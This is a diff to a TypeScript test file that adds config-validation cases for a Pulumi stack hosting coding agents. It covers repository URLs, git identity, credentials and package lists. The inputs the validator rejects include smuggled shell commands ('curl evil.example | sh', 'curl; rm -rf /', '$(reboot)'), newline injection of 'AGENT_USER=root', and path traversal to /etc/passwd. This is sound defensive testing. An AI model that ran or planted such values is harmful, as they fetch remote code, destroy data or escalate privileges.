@@ -192,9 +192,115 @@ const CASES: Case[] = [
     "deployPrivateKey must be a PEM or OpenSSH private key (-----BEGIN ... PRIVATE KEY-----). Set it with: pulumi config set --secret deployPrivateKey < ~/.ssh/agent-host-deploy, or unset it to let the stack generate one.",
   ],
   [
+    "repository without a scheme",
+    { "agent-host:repository": "github.com/acme/app" },
+    'repository must be a git URL; got "github.com/acme/app". Use https://host/path(.git), ssh://[user@]host[:port]/path or user@host:path.git. Run: pulumi config set repository https://github.com/acme/app.git',
+  ],
+  [
+    "repository with shell metacharacters",
+    { "agent-host:repository": "git@github.com:acme/app.git; curl evil.example | sh" },
+    'repository must be a git URL; got "git@github.com:acme/app.git; curl evil.example | sh". Use https://host/path(.git), ssh://[user@]host[:port]/path or user@host:path.git. Run: pulumi config set repository https://github.com/acme/app.git',
+  ],
+  [
+    "repository over plain http",
+    { "agent-host:repository": "http://git.acme.example/app.git" },
+    'repository must use https:// or SSH, not an unencrypted protocol; got "http://git.acme.example/app.git". Use https://host/path(.git), ssh://[user@]host[:port]/path or user@host:path.git. Run: pulumi config set repository https://github.com/acme/app.git',
+  ],
+  [
+    "repository with a token in the URL",
+    { "agent-host:repository": "https://x-access-token:ghp_abcdefgh@github.com/acme/app.git" },
+    "repository must not carry credentials in the URL; got a URL with user info (not shown). Put the token in gitCredentials (pulumi config set --secret gitCredentials <token>) and run: pulumi config set repository <the URL without user@>",
+  ],
+  [
+    "repository path escaping upwards",
+    { "agent-host:repository": "git@github.com:../../etc/passwd" },
+    'repository must be a git URL; got "git@github.com:../../etc/passwd". Use https://host/path(.git), ssh://[user@]host[:port]/path or user@host:path.git. Run: pulumi config set repository https://github.com/acme/app.git',
+  ],
+  [
+    "gitUserEmail not an address",
+    { "agent-host:gitUserName": "Acme Agents", "agent-host:gitUserEmail": "agents at acme" },
+    'gitUserEmail must be an email address such as agents@acme.example; got "agents at acme". Run: pulumi config set gitUserEmail agents@acme.example',
+  ],
+  [
+    "gitUserEmail with a newline (would add a host.conf line)",
+    {
+      "agent-host:gitUserName": "Acme Agents",
+      "agent-host:gitUserEmail": "a@acme.example\nAGENT_USER=root",
+    },
+    'gitUserEmail must be an email address such as agents@acme.example; got "a@acme.example\\nAGENT_USER=root". Run: pulumi config set gitUserEmail agents@acme.example',
+  ],
+  [
+    "gitUserName with a newline",
+    {
+      "agent-host:gitUserName": "Acme\nAGENT_USER=root",
+      "agent-host:gitUserEmail": "agents@acme.example",
+    },
+    'gitUserName must be a name on one line, without < or > (at most 200 characters); got "Acme\\nAGENT_USER=root". Run: pulumi config set gitUserName "Acme Agents"',
+  ],
+  [
+    "gitUserName without gitUserEmail",
+    { "agent-host:gitUserName": "Acme Agents" },
+    "gitUserEmail is not set but gitUserName is; the agents' commits need both. Run: pulumi config set gitUserEmail agents@acme.example",
+  ],
+  [
+    "extraPackages with a shell command",
+    { "agent-host:extraPackages": JSON.stringify(["ripgrep", "curl; rm -rf /"]) },
+    "extraPackages has \"curl; rm -rf /\", which is not a Debian/Ubuntu package name (lowercase letters, digits, + - . only; no spaces, versions or shell characters). Fix it with: pulumi config set --path 'extraPackages[1]' build-essential",
+  ],
+  [
+    "extraPackages with a command substitution",
+    { "agent-host:extraPackages": JSON.stringify(["$(reboot)"]) },
+    "extraPackages has \"$(reboot)\", which is not a Debian/Ubuntu package name (lowercase letters, digits, + - . only; no spaces, versions or shell characters). Fix it with: pulumi config set --path 'extraPackages[0]' build-essential",
+  ],
+  [
+    "extraPackages with an option",
+    { "agent-host:extraPackages": JSON.stringify(["--allow-unauthenticated"]) },
+    "extraPackages has \"--allow-unauthenticated\", which is not a Debian/Ubuntu package name (lowercase letters, digits, + - . only; no spaces, versions or shell characters). Fix it with: pulumi config set --path 'extraPackages[0]' build-essential",
+  ],
+  [
+    "extraPackages with a version",
+    { "agent-host:extraPackages": JSON.stringify(["nodejs=18.19.0"]) },
+    "extraPackages has \"nodejs=18.19.0\", which is not a Debian/Ubuntu package name (lowercase letters, digits, + - . only; no spaces, versions or shell characters). Fix it with: pulumi config set --path 'extraPackages[0]' build-essential",
+  ],
+  [
+    "extraPackages as one string",
+    { "agent-host:extraPackages": "ripgrep jq" },
+    "extraPackages must be a list of strings; got \"ripgrep jq\". Set it with: pulumi config set --path 'extraPackages[0]' build-essential",
+  ],
+  [
+    "gitCredentials with whitespace",
+    {
+      "agent-host:gitCredentials": "ghp_abc def",
+      "agent-host:repository": "https://github.com/acme/app.git",
+    },
+    "gitCredentials contains whitespace (a pasted newline, or a public key?); it must be a token, user:token, or an SSH private key. Set it again with: pulumi config set --secret gitCredentials <token> (or < ~/.ssh/deploy-key for an SSH key)",
+  ],
+  [
+    "gitCredentials an SSH key for an HTTPS repository",
+    {
+      "agent-host:gitCredentials":
+        "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n",
+      "agent-host:repository": "https://github.com/acme/app.git",
+    },
+    'gitCredentials is an SSH private key but repository is an HTTPS URL ("https://github.com/acme/app.git"). Use the repository\'s SSH URL (git@host:path.git), or put an HTTPS token in gitCredentials.',
+  ],
+  [
+    "gitCredentials a token for an SSH repository",
+    {
+      "agent-host:gitCredentials": "ghp_abcdefgh12345678",
+      "agent-host:repository": "git@github.com:acme/app.git",
+    },
+    'gitCredentials is a token but repository is an SSH URL ("git@github.com:acme/app.git"). Use the repository\'s https:// URL, or put an SSH private key in gitCredentials.',
+  ],
+  [
+    "gitCredentials a non-GitHub token without a repository",
+    { "agent-host:gitCredentials": "glpat-abcdefgh12345678" },
+    "gitCredentials is a token that is not GitHub's, and repository is not set, so the host it is for is unknown (a token is only ever sent to that host). Run: pulumi config set repository https://github.com/acme/app.git",
+  ],
+  [
     "unknown key (typo)",
     { "agent-host:agentCounts": "12" },
-    "agent-host:agentCounts is not a configuration key of this stack (a typo?). Known keys: agentCount, machineType, image, bootDiskSizeGb, dataDiskSizeGb, dataDiskType, sshSourceRanges, claudeCodeVersion, claudeCodeSource, dockerSource, anthropicApiKey, sshAuthorizedKeys, agentPermissionMode, snapshotRetentionDays, spot, deployPrivateKey, deleteDataDiskOnDestroy. Remove it with: pulumi config rm agentCounts",
+    "agent-host:agentCounts is not a configuration key of this stack (a typo?). Known keys: agentCount, machineType, image, bootDiskSizeGb, dataDiskSizeGb, dataDiskType, sshSourceRanges, claudeCodeVersion, claudeCodeSource, dockerSource, anthropicApiKey, sshAuthorizedKeys, agentPermissionMode, snapshotRetentionDays, spot, deployPrivateKey, deleteDataDiskOnDestroy, gitUserName, gitUserEmail, gitCredentials, repository, extraPackages. Remove it with: pulumi config rm agentCounts",
   ],
   [
     "zone missing",
@@ -218,7 +324,11 @@ const CASES: Case[] = [
   ],
 ];
 
-const SECRET_KEYS = ["agent-host:anthropicApiKey", "agent-host:deployPrivateKey"];
+const SECRET_KEYS = [
+  "agent-host:anthropicApiKey",
+  "agent-host:deployPrivateKey",
+  "agent-host:gitCredentials",
+];
 
 function configWith(overrides: Record<string, string | undefined>): Record<string, string> {
   const merged: Record<string, string | undefined> = { ...BASE_CONFIG, ...overrides };
@@ -288,6 +398,21 @@ describe("refusals that need the current state", () => {
       runProgram(configWith({ "agent-host:anthropicApiKey": "sk-ant-api03-plain" }), {
         secretKeys: [],
       }),
+    ).rejects.toThrow(message);
+    expect(registeredSoFar()).toEqual([]);
+  });
+
+  test("git credentials stored in plain text", async () => {
+    const message =
+      "gitCredentials is stored in plain text in the stack's config file. Remove it with: pulumi config rm gitCredentials, then set it with: pulumi config set --secret gitCredentials <value>";
+    await expect(
+      runProgram(
+        configWith({
+          "agent-host:gitCredentials": "ghp_PLAINTEXTplaintext0123",
+          "agent-host:repository": "https://github.com/acme/app.git",
+        }),
+        { secretKeys: ["agent-host:anthropicApiKey", "agent-host:deployPrivateKey"] },
+      ),
     ).rejects.toThrow(message);
     expect(registeredSoFar()).toEqual([]);
   });
